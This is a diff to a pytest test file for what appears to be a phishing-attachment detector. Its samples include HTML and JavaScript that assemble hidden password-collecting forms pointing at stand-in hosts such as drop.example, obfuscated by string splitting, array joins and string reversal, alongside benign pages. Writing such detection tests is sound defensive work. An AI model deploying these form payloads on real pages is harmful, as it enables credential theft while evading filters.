@@ -56,14 +56,17 @@ def test_a_form_in_a_file_that_a_browser_opens(name, prefix):
     assert {"html-attachment", "credential-form"} <= set(found)
 
 
+FORM_BACKWARDS = ">drowssap=epyt tupni<>elpmaxe.pord//:sptth=noitca mrof<"
+
+
 @pytest.mark.parametrize(
     "source",
     [
         "<script>document.write('<fo'+'rm action=https://drop.example><inp'+'ut type=pass'+'word>')</script>",
         '<script>var a="<form action=https://drop.example>",b="<input type=password>";document.write(a + b)</script>',
-        '<script>var h="";h+="<form action=https:";h+="//drop.example>";h+="<input type=password>";x.innerHTML=h</script>',
-        "<script>document.write(['<form ','action=https://drop.example>','<input ','type=password>'].join(''))</script>",
-        "<script>document.write('>drowssap=epyt tupni<>elpmaxe.pord//:sptth=noitca mrof<'.split('').reverse().join(''))</script>",
+        '<script>var h="";h+="<form action=https:";h+="//a.example>";h+="<input type=password>";x.innerHTML=h</script>',
+        "<script>document.write(['<form ','action=https://a.example>','<input ','type=password>'].join(''))</script>",
+        f"<script>document.write('{FORM_BACKWARDS}'.split('').reverse().join(''))</script>",
         "<iframe srcdoc=\"&lt;form action='https://drop.example'&gt;&lt;input type=password&gt;\"></iframe>",
         '<iframe srcdoc="<script>go()</script>"></iframe>',
         "<p>Loading…</p><script src=https://drop.example.js></script>",
@@ -84,9 +87,9 @@ def test_where_the_form_made_of_pieces_leads():
 @pytest.mark.parametrize(
     "source",
     [
-        "<p>" + "The results of the examination are listed below. " * 8 + "</p><script src=https://cdn.example/t.js></script>",
-        "<table id=t></table><script>var r='';for(i=0;i<9;i++){r+='<tr><td>';r+=i;r+='</td></tr>'}t.innerHTML=r</script>"
-        + "<p>" + "A report with a table. " * 12 + "</p>",
+        "<p>" + "The results are listed below. " * 12 + "</p><script src=https://cdn.example/t.js></script>",
+        "<table id=t></table><script>var r='';for(i in v){r+='<tr><td>';r+=i;r+='</td></tr>'}t.innerHTML=r</script>"
+         "<p>" + "A report with a table. " * 12 + "</p>",
         "<p>Plan</p><iframe srcdoc='<p>A small note</p>'></iframe>",
         "<p>Dear all</p><script>var name='a'+'b'</script>",
     ],
